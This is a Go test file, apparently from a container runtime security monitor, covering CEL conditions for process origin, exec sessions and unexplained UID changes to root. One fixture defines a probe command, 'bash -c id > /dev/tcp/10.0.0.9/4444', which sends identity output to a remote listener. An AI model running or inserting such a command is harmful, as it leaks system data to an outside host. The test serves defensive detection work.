package celenv

import (
	"testing"

	"github.com/procession-dev/procession/internal/event"
)

// What depends on the pod's spec is missing until that is known, and decided
// from then on.
func TestOriginVariables(t *testing.T) {
	spec := &event.Container{Name: "web", Probes: [][]string{{"bash", "-c", "id > /dev/tcp/10.0.0.9/4444"}}, Hooks: [][]string{{"/bin/stop"}}}
	came := func(o event.Origin, c *event.Container) *event.Process {
		p := shell()
		p.Origin, p.Workload.Container = o, c
		return p
	}
	host := shell()
	host.Workload = &event.Workload{Place: event.PlaceHost}
	session := came(event.OriginSession, nil)
	below := shell()
	below.Origin, below.Parent = event.OriginChild, session
	hook := came(event.OriginEntered, spec)
	hook.Cmdline, hook.CmdlineLen = "/bin/stop\x00", 10
	again := came(event.OriginEntered, &event.Container{Name: "web"})
	again.Execs = 2
	for _, c := range []struct {
		name    string
		p       *event.Process
		origin  string // missing when "?"
		session Truth
	}{
		{"host", host, "", False},
		{"not told", came(event.OriginUnknown, spec), "?", Undecided},
		{"spec not known", came(event.OriginEntered, nil), "?", Undecided},
		{"no probe", came(event.OriginEntered, &event.Container{Name: "web"}), "execSession", True},
		{"no probe, but it ran something since", again, "?", Undecided},
		{"probe", came(event.OriginEntered, spec), "probe", False},
		{"hook", hook, "lifecycleHook", False},
		{"entrypoint", came(event.OriginEntry, nil), "entrypoint", False},
		{"child", below, "child", False},
	} {
		s := newScope(t)
		truth := func(src string) Truth {
			x, err := s.Condition(src)
			if err != nil {
				t.Fatal(err)
			}
			a := s.env.NewActivation("")
			a.Reset(exec(c.p))
			got, _ := x.Truth(a)
			return got
		}
		want := True
		if c.origin == "?" {
			want = Undecided
		}
		if got := truth("process.origin == '" + c.origin + "'"); got != want {
			t.Errorf("%s: origin is not %q: %v", c.name, c.origin, got)
		}
		if got := truth("process.execSession"); got != c.session {
			t.Errorf("%s: execSession is %v, want %v", c.name, got, c.session)
		}
		if got := truth("ancestors.exists(a, a.execSession)"); c.p == below && got != True {
			t.Errorf("%s: its ancestor is no session: %v", c.name, got)
		}
	}
}

func TestChangeCause(t *testing.T) {
	change := func(c event.Cause, hasBefore bool, before, after uint32) *event.Event {
		p := shell()
		p.UID, p.EUID = after, after
		return &event.Event{Kind: event.UIDChange, Process: p, HasBefore: hasBefore, Before: event.IDs{UID: before, EUID: before}, Cause: c}
	}
	for _, c := range []struct {
		name string
		ev   *event.Event
		want Truth // of change.cause == 'unexplained'
	}{
		{"unexplained", change(event.CauseUnexplained, true, 1000, 0), True},
		{"explained", change(event.CauseSetuid, true, 1000, 0), False},
		{"a fact is missing", change(event.CauseUnknown, true, 1000, 0), Undecided},
		{"before is missing", change(event.CauseUnknown, false, 0, 0), Undecided},
		{"not to 0", change(event.CauseUnknown, true, 0, 1000), False},
		{"not to 0, before missing", change(event.CauseUnknown, false, 0, 1000), False},
		{"from 0", change(event.CauseUnknown, true, 0, 0), False},
	} {
		s := newScope(t)
		x, err := s.Condition("change.cause == 'unexplained'")
		if err != nil {
			t.Fatal(err)
		}
		a := s.env.NewActivation("")
		a.Reset(c.ev)
		if got, _ := x.Truth(a); got != c.want {
			t.Errorf("%s: %v, want %v", c.name, got, c.want)
		}
	}
}

func TestSandboxHasNoName(t *testing.T) {
	p := shell()
	p.Workload.Container, p.Workload.ContainerName, p.Workload.Image, p.Workload.Sandbox = nil, "", "", true
	s := newScope(t)
	x, err := s.Condition("container.name == '' && container.image == '' && !container.privileged && pod.name == 'web-0'")
	if err != nil {
		t.Fatal(err)
	}
	a := s.env.NewActivation("")
	a.Reset(exec(p))
	if got, err := x.Truth(a); got != True {
		t.Errorf("%v %v", got, err)
	}
}
